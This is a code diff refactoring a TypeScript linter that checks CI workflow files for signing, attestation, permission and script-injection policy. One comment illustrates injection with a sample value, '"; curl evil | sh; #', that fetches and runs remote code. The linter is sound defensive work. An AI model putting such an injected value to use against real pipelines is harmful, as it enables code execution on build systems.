@@ -122,7 +122,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
 
   // --- jobs ------------------------------------------------------------------------------------
   const jobs = pairOf(root, 'jobs')?.value;
-  const jobPairs: Pair[] = isMap(jobs) ? (jobs.items as Pair[]) : [];
+  const jobPairs: Pair[] = isMap(jobs) ? jobs.items : [];
   const permissionsBlocks: Pair[] = top ? [top] : [];
   for (const jobPair of jobPairs) {
     const job = jobPair.value;
@@ -205,7 +205,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
 
     for (const st of steps) {
       const w = withOf(st);
-      if (/^actions\/download-artifact@/.test(str(st, 'uses') ?? '') && w && str(w, 'merge-multiple') === 'true') {
+      if ((str(st, 'uses') ?? '').startsWith('actions/download-artifact@') && w && str(w, 'merge-multiple') === 'true') {
         at(start(pairOf(w, 'merge-multiple')!.value), 'signer-reverifies', `job ${jobId} signs and merges downloaded artifacts into one folder: one pair's artifact could overwrite another's; download each into a folder of its own name`);
       }
     }
@@ -226,7 +226,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
     for (const st of signing.slice(1)) {
       const uses = str(st, 'uses') ?? '';
       const w = withOf(st);
-      if (/^actions\/attest/.test(uses)) {
+      if (uses.startsWith('actions/attest')) {
         const subjectKeys = ['subject-digest', 'subject-checksums', 'subject-path', 'subject-name'];
         const given = w ? subjectKeys.filter((k) => pairOf(w, k)) : [];
         if (w && pairOf(w, 'subject-path')) at(start(pairOf(w, 'subject-path')!.value), 'signer-reverifies', `job ${jobId} attests files it received (subject-path): take the subjects from the re-hashing step (subject-checksums: \${{ steps.<id>.outputs.subject-checksums }})`);
@@ -240,7 +240,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
         if (state !== verifyState) at(start(st), 'signer-reverifies', `job ${jobId} packs ${state}, not the state folder the re-hashing step wrote (${verifyState}): pack only what the signer verified and signed`);
       } else if (isSign(st) && !(w && str(w, 'builds'))) {
         at(start(st), 'signer-reverifies', `job ${jobId} signs with ./actions/sign without builds: every signing step re-verifies what it signs`);
-      } else if (!isSign(st) && !/^\.\/actions\/publish/.test(uses)) {
+      } else if (!isSign(st) && !uses.startsWith('./actions/publish')) {
         at(start(st), 'signer-reverifies', `job ${jobId} signs with ${uses || 'a run: step'}, which does not re-verify what it signs: sign with ./actions/sign (builds:) and ./actions/publish only`);
       }
     }
@@ -267,7 +267,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
   // `"; curl evil | sh; #` becomes code. Pass such values through `env:` and quote "$VAR".
   function checkRun(node: Node): void {
     if (!isScalar(node) || !Array.isArray(node.range)) return;
-    const [from, , to] = node.range as [number, number, number];
+    const [from, , to] = node.range;
     const raw = text.slice(from, to);
     let found = 0;
     for (const m of raw.matchAll(EXPRESSION)) {
@@ -303,7 +303,7 @@ export function checkWorkflowPolicy(text: string, file: string): PolicyFinding[]
     }
     if (!isMap(v)) return [{ scope: '?', what: 'something that is not a map', offset: start(v) }];
     const out: { scope: string; what: string; offset: number }[] = [];
-    for (const p of v.items as Pair[]) {
+    for (const p of v.items) {
       const scope = isScalar(p.key) ? String(p.key.value) : '?';
       const level = isScalar(p.value) ? String(p.value.value) : '';
       if (level === 'read' || level === 'none') continue;
